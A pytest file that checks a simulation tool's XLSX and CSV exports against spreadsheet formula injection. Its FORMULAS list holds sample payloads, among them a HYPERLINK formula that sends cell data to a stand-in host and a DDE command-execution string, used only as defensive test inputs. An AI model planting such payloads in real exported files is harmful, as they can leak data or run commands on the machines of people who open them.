"""Spreadsheet text is text: a cell that starts with = + - @ and is not a number never becomes a formula."""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from .conftest import accepted

FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0"]


def _scenario(scenario, title, name="s.toml", folder=None):
    body = f'name = {json.dumps(title)}\ndescription = "@what if"\n'     # a JSON string is a TOML string
    return scenario(body, name=name, head=False, folder=folder)


def _cells(book_path):
    book = openpyxl.load_workbook(book_path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


@pytest.mark.parametrize("title", FORMULAS, ids=["HYPERLINK", "plus", "minus", "at", "DDE"])
def test_a_formula_in_a_scenario_name_stays_text_in_the_workbook(title, names, scenario, cli, tmp_path):
    path = _scenario(scenario, title)
    accepted(cli("batch", path, "--regions", names.region, "--format", "xlsx", "--out", "book"))
    accepted(cli("run", path, "--region", names.region, "--out", "one.xlsx"))
    for book in (tmp_path / "book" / "innosim.xlsx", tmp_path / "one.xlsx"):
        cells = list(_cells(book))
        assert not [(s, c.coordinate) for s, c in cells if c.data_type == "f"], book
        assert any(c.value == title and c.data_type == "s" for _, c in cells), f"{title} not kept as text in {book}"


@pytest.mark.parametrize("title", FORMULAS, ids=["HYPERLINK", "plus", "minus", "at", "DDE"])
def test_a_formula_in_a_scenario_name_is_quoted_in_csv(title, names, scenario, cli, tmp_path):
    path = _scenario(scenario, title)
    accepted(cli("batch", path, "--regions", names.region, "--out", "tables"))
    for table in (tmp_path / "tables").glob("*.csv"):
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))):
            for value in row:
                if value and value[0] in "=+-@":
                    float(value)                      # only numbers may start so; text is quoted with '
    inputs = (tmp_path / "tables" / "inputs.csv").read_text(encoding="utf-8-sig")
    assert "'" + title in inputs.replace('""', '"')


def test_a_scenario_file_named_like_a_formula(names, scenario, cli, tmp_path):
    """The file name becomes the scenario's id, in every row of every table: still text."""
    path = scenario("", name="=1+2.toml")
    accepted(cli("batch", path, "--regions", names.region, "--format", "xlsx", "--out", "book"))
    cells = list(_cells(tmp_path / "book" / "innosim.xlsx"))
    assert not [c for _, c in cells if c.data_type == "f"]
    assert any(c.value == "=1+2" for _, c in cells)
    accepted(cli("batch", path, "--regions", names.region, "--out", "tables"))
    projections = (tmp_path / "tables" / "projections.csv").read_text(encoding="utf-8-sig").splitlines()
    assert all(line.startswith("'=1+2,") for line in projections[1:])
    printed = cli("run", path, "--region", names.region).out.splitlines()
    assert all(line.startswith("'=1+2,") for line in printed[1:])


def test_a_failure_reason_in_failures_csv_is_text(names, scenario, cli, tmp_path):
    bad = scenario(f"[levers]\n{names.smooth.id} = {names.smooth.high + 1}\n", name="=bad.toml")
    good = scenario("", name="good.toml")
    result = cli("batch", good, bad, "--regions", names.region, "--out", "tables")
    assert result.rc == 2
    for row in csv.reader(io.StringIO((tmp_path / "tables" / "failures.csv").read_text(encoding="utf-8-sig"))):
        assert not any(v and v[0] in "=+-@" for v in row), row


def test_numbers_stay_numbers(names, scenario, cli, tmp_path):
    """Negative numbers (a gap below target) are numbers, not quoted text."""
    accepted(cli("batch", scenario("", name="plan2.toml"), "--regions", names.region, "--format", "xlsx",
                 "--out", "book"))
    numbers = [c.value for _, c in _cells(tmp_path / "book" / "innosim.xlsx") if c.data_type == "n" and c.value]
    assert any(v < 0 for v in numbers)
